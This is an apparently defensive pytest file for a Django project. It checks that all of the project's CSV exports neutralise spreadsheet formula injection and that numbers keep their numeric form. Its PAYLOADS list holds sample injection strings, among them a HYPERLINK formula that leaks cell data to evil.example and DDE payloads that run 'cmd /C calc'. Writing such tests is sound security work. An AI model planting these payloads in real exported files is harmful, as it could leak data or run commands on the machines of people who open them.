"""Kind: CSV formula injection.

A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return runs as a
formula in a spreadsheet. Every CSV download (portal lists, API lists, the
timeline, search) goes through one writer that puts a ``'`` in front of such
text, and keeps real numbers as numbers.
"""

import csv
import datetime
import decimal
import io
import re

import pytest
from django.core.cache import cache
from hypothesis import given
from hypothesis import strategies as st

from casebook.records.csvwriter import FORMULA_PREFIXES, csv_lines, neutralise
from casebook.records.models import EditorialStatus
from tests.factories import (
    AllegationFactory,
    CaseFactory,
    ClauseFactory,
    EventFactory,
    GuidanceFactory,
    PartyFactory,
    SettlementFactory,
    SourceFactory,
    TermsDocumentFactory,
    TermsVersionFactory,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

PORTAL_LISTS = [
    "parties",
    "sources",
    "terms",
    "allegations",
    "cases",
    "settlements",
    "guidance",
    "events",
]
API_LISTS = [
    "parties",
    "sources",
    "allegations",
    "cases",
    "settlements",
    "guidance",
    "terms",
    "terms-versions",
    "clauses",
    "events",
]
CSV_URLS = [
    *(f"/{name}/?format=csv" for name in PORTAL_LISTS),
    *(f"/api/v1/{name}/?format=csv" for name in API_LISTS),
    "/api/v1/timeline/?format=csv",
    "/api/v1/search/?q=quokka&format=csv",
]


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture(params=PAYLOADS, ids=range(len(PAYLOADS)))
def payload(request):
    """A world whose every kind of text field starts with the payload."""
    text = request.param
    source = SourceFactory(title=f"{text} quokka", publisher=text, author=text)
    vendor = PartyFactory(name=f"{text} quokka", short_name=text, cite=source)
    AllegationFactory(title=f"{text} quokka", accuser=vendor, cite=source)
    case = CaseFactory(name=f"{text} quokka", docket_number=text, cite=source)
    SettlementFactory(title=f"{text} quokka", case=case, cite=source)
    GuidanceFactory(title=f"{text} quokka", formal_citation=text, cite=source)
    EventFactory(headline=f"{text} quokka", cite=source)
    terms = TermsDocumentFactory(title=f"{text} quokka", vendor=vendor, cite=source)
    version = TermsVersionFactory(document=terms, effective_from=datetime.date(2025, 1, 1))
    ClauseFactory(version=version, text=f"{text} quokka")
    return text


@pytest.mark.parametrize("url", CSV_URLS)
def test_no_csv_cell_can_run_as_a_formula(client, payload, url):
    cache.clear()
    rows = csv_cells(client.get(url))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES) or is_number(cell), (url, cell)
    # The text is kept, behind a quote: nothing is lost (a terms version's row has no text).
    if "terms-versions" not in url:
        assert any(cell.startswith("'" + payload) for cell in cells), url


def test_numbers_stay_numbers(client):
    AllegationFactory(title="Quokka", accounts=24000, exchanges=16_000_000)
    rows = {
        url: list(csv.DictReader(io.StringIO(b"".join(client.get(url).streaming_content).decode())))
        for url in ("/allegations/?format=csv", "/api/v1/allegations/?format=csv")
    }
    for found in rows.values():
        assert found[0]["accounts"] == "24000"
        assert found[0]["exchanges"] == "16000000"


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_loses_nothing(text):
    cell = neutralise(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)
    assert cell == text or text.startswith(FORMULA_PREFIXES)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_real_numbers_are_written_as_numbers(number):
    """A negative number is a number, not a formula: only text gets the quote."""
    assert neutralise(number) == number
    line = next(csv_lines([[number]]))
    assert not line.startswith("'")
    assert neutralise(str(number)).startswith("'") == str(number).startswith(FORMULA_PREFIXES)


def test_other_values_as_cells():
    assert neutralise(None) == ""
    assert neutralise(True) == "true"
    assert neutralise(datetime.date(2026, 2, 23)) == "2026-02-23"
    assert neutralise(decimal.Decimal("-1.5")) == decimal.Decimal("-1.5")
    assert neutralise(EditorialStatus.PUBLISHED) == "published"


def words(text: str) -> list[str]:
    return re.findall(r"[a-z'&\"]+", text.lower())


@pytest.mark.parametrize(
    "summary",
    ["Quokka <b>bold</b> & co's", "A quokka said 'x < y' & \"mark\"", "<mark>quokka</mark>"],
)
def test_search_snippets_in_json_and_csv_are_plain_text(client, summary):
    AllegationFactory(title="Claim", summary=summary)
    hit = client.get("/api/v1/search/", {"q": "quokka"}).json()["results"][0]
    rows = list(
        csv.DictReader(
            io.StringIO(
                b"".join(
                    client.get("/api/v1/search/?q=quokka&format=csv").streaming_content
                ).decode()
            )
        )
    )
    for snippet in (hit["snippet"], rows[0]["snippet"]):
        # No tag added and nothing escaped (PostgreSQL's ts_headline may drop the text's own
        # tags; SQLite keeps them): the words are the text's own.
        assert snippet.count("<") <= summary.count("<")
        assert "&amp;" not in snippet and "&#x27;" not in snippet and "&quot;" not in snippet
        assert "quokka" in words(snippet)
        assert set(words(snippet)) <= set(words(summary))
    # The portal's page alone highlights, with the text escaped.
    page = client.get("/search/", {"q": "quokka"}).content.decode()
    assert "<mark>" in page.lower() and "<b>bold</b>" not in page
